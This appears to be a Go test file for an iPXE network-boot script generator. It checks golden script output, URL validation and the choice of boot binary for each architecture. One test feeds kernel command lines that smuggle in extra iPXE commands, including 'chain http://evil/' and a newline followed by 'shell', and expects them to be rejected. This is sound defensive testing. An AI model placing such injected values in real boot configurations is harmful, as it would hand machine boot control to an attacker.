package ipxe

import (
	"bytes"
	"errors"
	"flag"
	"net"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func mustMAC(t *testing.T, s string) net.HardwareAddr {
	t.Helper()
	m, err := net.ParseMAC(s)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestBootScriptGolden(t *testing.T) {
	for _, tc := range []struct {
		name string
		boot Boot
	}{
		{"boot.ipxe", Boot{BaseURL: "http://10.99.0.1:8080", MAC: mustMAC(t, "52:54:00:AB:00:01"), Cmdline: "console=ttyS0 ignition.firstboot ignition.platform.id=metal"}},
		{"boot-nocmdline.ipxe", Boot{BaseURL: "http://10.99.0.1:8080", MAC: mustMAC(t, "52:54:00:00:00:02")}},
		{"boot-path.ipxe", Boot{BaseURL: "https://[fd00::1]:8443/rack1", MAC: mustMAC(t, "52:54:00:00:00:03"), Cmdline: "quiet"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := BootScript(tc.boot)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tc.name, got)
		})
	}
}

func TestChainAndExitGolden(t *testing.T) {
	chain, err := ChainScript("http://10.99.0.1:8080")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "chain.ipxe", chain)
	golden(t, "exit.ipxe", ExitScript())
}

func TestBootScriptRejectsInjection(t *testing.T) {
	mac := mustMAC(t, "52:54:00:00:00:01")
	for _, b := range []Boot{
		{BaseURL: "http://10.99.0.1:8080", MAC: mac, Cmdline: "console=ttyS0\nshell"},
		{BaseURL: "http://10.99.0.1:8080", MAC: mac, Cmdline: "x ${net0/ip}"},
		{BaseURL: "http://10.99.0.1:8080", MAC: mac, Cmdline: "quiet || chain http://evil/"},
	} {
		if out, err := BootScript(b); !errors.Is(err, ErrUnsafe) || out != nil {
			t.Errorf("BootScript(%q) = %q, %v; want ErrUnsafe", b.Cmdline, out, err)
		}
	}
	if _, err := BootScript(Boot{BaseURL: "http://a", MAC: net.HardwareAddr{1, 2, 3}}); !errors.Is(err, ErrUnsafe) {
		t.Errorf("short MAC: err = %v, want ErrUnsafe", err)
	}
}

func TestCheckBaseURL(t *testing.T) {
	for _, ok := range []string{"http://10.99.0.1:8080", "http://boot.example", "https://[fd00::1]:8443/rack1"} {
		if err := CheckBaseURL(ok); err != nil {
			t.Errorf("CheckBaseURL(%q) = %v", ok, err)
		}
	}
	for _, bad := range []string{"", "10.99.0.1:8080", "ftp://x", "http://", "http://x/", "http://x:80\nboot", "http://x/${mac}", "http://u:p@x", "http://x/?a=b", "http://x/#f", "http://x y", "http:x"} {
		if err := CheckBaseURL(bad); !errors.Is(err, ErrBadURL) {
			t.Errorf("CheckBaseURL(%q) = %v, want ErrBadURL", bad, err)
		}
		if _, err := ChainScript(bad); err == nil {
			t.Errorf("ChainScript(%q) rendered", bad)
		}
	}
}

func TestBinaryFor(t *testing.T) {
	for arch, want := range map[Arch]Binary{
		ArchBIOS: {File: "undionly.kpxe"}, ArchEFIBC: {File: "ipxe.efi"}, ArchEFIx64: {File: "ipxe.efi"},
		ArchEFIARM64: {File: "snp.efi"}, ArchEFIx64HTTP: {File: "ipxe.efi", HTTP: true}, ArchEFIARM64HTTP: {File: "snp.efi", HTTP: true},
	} {
		got, err := BinaryFor(arch)
		if err != nil || got != want {
			t.Errorf("BinaryFor(%d) = %+v, %v; want %+v", arch, got, err, want)
		}
	}
	for _, arch := range []Arch{ArchEFIIA32, ArchEFIARM32, 2, 255} {
		if _, err := BinaryFor(arch); !errors.Is(err, ErrNoBinary) {
			t.Errorf("BinaryFor(%d) err = %v, want ErrNoBinary", arch, err)
		}
	}
	if got := (Binary{File: "snp.efi", HTTP: true}).URL("http://10.99.0.1:8080"); got != "http://10.99.0.1:8080/ipxe/snp.efi" {
		t.Errorf("URL = %q", got)
	}
}
